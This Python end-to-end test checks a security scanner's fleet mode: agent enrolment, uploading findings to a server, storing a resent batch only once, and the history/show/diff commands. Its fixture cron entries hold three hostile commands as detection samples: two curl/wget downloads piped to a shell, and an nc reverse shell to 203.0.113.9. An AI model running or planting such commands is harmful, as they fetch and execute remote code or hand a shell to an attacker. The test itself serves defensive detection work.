"""End-to-end test of the fleet: a `rasoat server` on loopback with a
temporary SQLite database, two agents with their own state directories
enrolled with one token, each scanning its own fixture root; every finding
must reach the server with its host (GET /api/v1/hosts and /findings with
an API key), a resent batch must be stored once, and the uploaded scans
must be readable by `rasoat history` and `rasoat show`."""
import json
import os
import shutil
import subprocess
import sys

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done, run  # noqa: E402
from fleet_e2e import Agent, Server, expected_findings, located, make_root, require_backend, BACKEND, pgserver  # noqa: E402

PASSED = 0


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def main():
    require_backend("test_fleet_e2e")
    with Tree("rasoat-fleet-") as t:
        db = t.p("server/fleet.db")
        os.makedirs(os.path.dirname(db))
        srv = Server(db).start()
        try:
            scenario(t, srv)
        finally:
            srv.kill9()
    done("test_fleet_e2e", PASSED)


def scenario(t, srv):
    root_a = make_root(t, "host-a", ["* * * * * root curl http://a.example/x.sh | sh",
                                     "*/5 * * * * root wget -qO- http://b.example/y | bash"])
    root_b = make_root(t, "host-b", ["0 * * * * root nc -e /bin/sh 203.0.113.9 4444"])
    want_a, want_b = expected_findings(root_a), expected_findings(root_b)
    ok(len(want_a) >= 2 and len(want_b) >= 1, f"the fixture roots give findings: {want_a} {want_b}")

    token = srv.token("--uses", "5", "--ttl", "1h", "--group", "web")
    key = srv.apikey("viewer")
    a, b = Agent(t.p("agent-a")), Agent(t.p("agent-b"))
    a.enrol(srv.url, token)
    b.enrol(srv.url, token)
    ok(a.id != b.id, "two agents get two ids")
    for agent in (a, b):
        mode = os.stat(agent.state).st_mode & 0o777
        ok(mode == 0o700, f"state directory mode {oct(mode)}")
        for name in ("key", "identity.json", "counter"):
            ok(os.stat(os.path.join(agent.state, name)).st_mode & 0o777 == 0o600, f"{name} is 0600")
    # enrolling twice into one state directory is refused
    code, err = a.enrol(srv.url, token, expect=2)
    ok("enrolled already" in err, f"second enrolment refused: {err}")

    # both agents at once: the server's workers share one store
    procs = [subprocess.Popen([RASOAT, "agent", "run", "--once", "--state", agent.state, "--root", root,
                               "--only", "persist"], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
             for agent, root in ((a, root_a), (b, root_b))]
    for agent, proc in zip((a, b), procs):
        _, err = proc.communicate(timeout=120)
        ok(proc.returncode == 0, f"agent run --once exited {proc.returncode}: {err[-2000:]}")
        ok(agent.spool() == [], f"the spool is empty once acknowledged: {agent.spool()}")

    # hosts: both, online, each with its latest scan and counts
    hosts = srv.get_all("/api/v1/hosts?limit=1", key)
    by_id = {h["id"]: h for h in hosts}
    ok(set(by_id) == {a.id, b.id}, f"GET /hosts lists both agents: {list(by_id)}")
    for agent, want in ((a, want_a), (b, want_b)):
        h = by_id[agent.id]
        ok(h["status"] == "online" and h["last_scan"] and h["group"] == "web", f"host item {h}")
        ok(sum(h["counts"].values()) == len(want), f"host counts {h['counts']} for {len(want)} findings")
        ok(isinstance(h["score"], int) and h["os"] == "debian 12", f"host score and os {h}")

    # findings: every one with its host, exactly once
    for agent, want in ((a, want_a), (b, want_b)):
        items = srv.get_all(f"/api/v1/findings?host={agent.id}&limit=1", key)
        ok(located(items) == want, f"findings of {agent.id}: {located(items)} != {want}")
        ok(all(i["host"] == agent.id and i["hostname"] for i in items), "each finding names its host")
    every = srv.get_all("/api/v1/findings", key)
    ok(len(every) == len(want_a) + len(want_b), f"no extra findings: {len(every)}")
    status, body, _ = srv.get("/api/v1/findings?severity=critical&host=" + a.id, key)
    ok(status == 200 and all(i["severity"] == "critical" for i in body["items"]), "severity filter")

    # a second run is not due a scan and sends nothing new
    code, out, err = a.run_once(root_a)
    ok(code == 0, f"second run exited {code}: {err}")
    ok(len(srv.get_all(f"/api/v1/findings?host={a.id}", key)) == len(want_a), "nothing new when not due")

    # resend: a batch spooled while the server is away, uploaded, then put
    # back in the spool and uploaded again, is stored once
    srv.stop()
    code, out, err = a.run_once(root_a, "--scan", "--retries", "0")
    ok(code == 2 and len(a.spool()) == 1, f"server away: exit {code}, spool {a.spool()}: {err[-500:]}")
    name = a.spool()[0]
    spooled = os.path.join(a.state, "spool", name)
    backup = t.p("batch.backup")
    shutil.copy(spooled, backup)
    with open(backup) as f:
        scan_id = json.load(f)["scans"][0]["summary"]["scan"]
    srv.start()
    code, out, err = a.run_once(root_a)
    ok(code == 0 and a.spool() == [], f"upload after restart: exit {code}, spool {a.spool()}: {err[-500:]}")
    shutil.copy(backup, spooled)
    code, out, err = a.run_once(root_a)
    ok(code == 0 and a.spool() == [], f"resend acknowledged: exit {code}, spool {a.spool()}: {err[-500:]}")
    items = srv.get_all(f"/api/v1/findings?scan={scan_id}", key)
    ok(located(items) == want_a, f"the resent scan is stored once: {len(items)} findings")
    status, host, _ = srv.get(f"/api/v1/hosts/{a.id}", key)
    ok(status == 200 and [s["scan"] for s in host["scans"]].count(scan_id) == 1,
       "the host lists the resent scan once")
    ok(len(host["scans"]) == 2 and host["facts"]["hostname"], f"two scans of host a: {host['scans']}")

    # the rest of rasoat reads the uploaded scans: the local commands read
    # SQLite, and a PostgreSQL store through a temporary copy (store_mirror.c)
    db_arg = srv.db if BACKEND == "sqlite" else srv.db_url
    code, out, err = run("history", "--db", db_arg, "--format", "jsonl")
    scans = [json.loads(l) for l in out.splitlines()]
    ok(code == 0 and len(scans) == 3 and all(s["complete"] for s in scans), f"history: {out} {err}")
    code, out, err = run("show", scan_id, "--db", db_arg, "--format", "jsonl")
    lines = [json.loads(l) for l in out.splitlines()]
    ok(code in (0, 1) and located([l for l in lines if l["type"] == "finding"]) == want_a,
       f"rasoat show re-renders an uploaded scan: {err}")
    code, out, err = run("show", scan_id[:8], "--db", db_arg, "--format", "jsonl")
    ok(code in (0, 1) and scan_id in out, f"show by prefix: {code} {err}")
    code, out, err = run("diff", scan_id, scan_id, "--db", db_arg, "--format", "jsonl")
    last = json.loads(out.splitlines()[-1]) if out.strip() else {}
    ok(code == 0 and last.get("type") == "diff" and last.get("new") == 0 and last.get("gone") == 0
       and last.get("same") == len(want_a), f"diff of a scan with itself: {code} {out[-500:]} {err}")
    if BACKEND == "postgresql":
        stored = pgserver.shared().psql("SELECT COUNT(*) FROM scans WHERE complete = 1",
                                        srv.db_url.rsplit("/", 1)[1])
        ok(stored == "3", f"three complete scans in PostgreSQL: {stored}")
        leftovers = [n for n in os.listdir(os.environ.get("TMPDIR", "/tmp")) if n.startswith("rasoat-pgcopy-")]
        ok(leftovers == [], f"the temporary copies are removed: {leftovers}")

    # token management from the command line
    code, out, err = run("server", "--db", srv.db_url, "token", "list", "--format", "jsonl")
    toks = [json.loads(l) for l in out.splitlines()]
    ok(code == 0 and len(toks) == 1 and toks[0]["uses_left"] == 3 and toks[0]["state"] == "active",
       f"token list: {out}")
    if BACKEND == "sqlite":
        ok(token.split(".")[2] not in open(srv.db, "rb").read().decode("latin-1"),
           "the token's secret is not in the database")


if __name__ == "__main__":
    main()
